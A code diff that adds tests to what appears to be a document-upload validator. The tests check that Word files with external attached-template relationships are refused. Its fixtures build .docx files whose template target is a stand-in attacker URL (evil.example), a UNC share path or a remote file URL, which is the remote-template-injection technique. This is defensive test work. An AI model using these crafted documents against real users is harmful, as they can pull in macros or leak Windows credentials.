@@ -74,7 +74,22 @@ function shortened(): Buffer {
   return bytes;
 }
 
+const template = (target: string) => () =>
+  madeDocument("docx", {
+    also: {
+      "word/_rels/settings.xml.rels": `<Relationships>\n<Relationship Id="a" TargetMode = "External"\n Target = "${target}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>`,
+    },
+  });
+
+test("a template of their own machine is fetched from nowhere", async () => {
+  for (const target of ["file:///C:\\Users\\a\\Normal.dotm", "Lettre.dotx"])
+    await check("a.docx", template(target)());
+});
+
 const REFUSED: [string, string, () => Buffer, string][] = [
+  ["a template on the web", "a.docx", template("http://evil.example/x.dotm"), "fileHasMacros"],
+  ["one on another machine", "a.docx", template("\\\\10.0.0.1\\a.dotm"), "fileHasMacros"],
+  ["one by its address as a file", "a.docx", template("file://evil/a.dotm"), "fileHasMacros"],
   [
     "Word's macros",
     "a.docm",
